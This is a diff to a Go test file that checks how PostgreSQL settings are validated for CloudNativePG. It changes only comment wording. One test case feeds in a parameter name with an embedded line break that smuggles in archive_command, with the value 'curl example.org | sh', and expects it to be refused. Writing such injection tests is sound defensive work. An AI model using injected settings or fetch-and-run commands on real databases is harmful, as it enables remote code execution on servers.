@@ -35,8 +35,8 @@ func postgresOf(t *testing.T, spec map[string]any) (string, error) {
 // notASetting is how a refusal of a name ends, wherever it is refused.
 const notASetting = "is no name of a setting: it is lower-case letters, digits and _, and at most one dot between two such words, each of at most 63 characters"
 
-// TestParametersOfPostgresAreOneLineEach: CloudNativePG 1.28.1 writes a name into postgresql.conf as it is, looks for names it
-// refuses exactly, though Postgres reads them without regard to case, and doubles quotes only in a value.
+// TestParametersOfPostgresAreOneLineEach: CloudNativePG 1.28.1 wrote a name into postgresql.conf as it is, looked for names it
+// refused exactly, though Postgres reads them without regard to case, and doubled quotes only in a value.
 func TestParametersOfPostgresAreOneLineEach(t *testing.T) {
 	for name, c := range map[string]struct{ key, value, says string }{
 		"a line break in a name":  {"z.z = 1\narchive_command", "curl example.org | sh", notASetting},
@@ -72,7 +72,7 @@ func refusedEverywhere(t *testing.T, key, value, says string) {
 	require.ErrorContains(t, err, says)
 }
 
-// TestParametersOfPostgresReachNoCodeAndNoFiles by rules of our own: CloudNativePG 1.28.1 does not know each of them.
+// TestParametersOfPostgresReachNoCodeAndNoFiles by rules of our own: CloudNativePG 1.28.1 did not know each of them.
 func TestParametersOfPostgresReachNoCodeAndNoFiles(t *testing.T) {
 	for _, name := range []string{
 		// Commands.
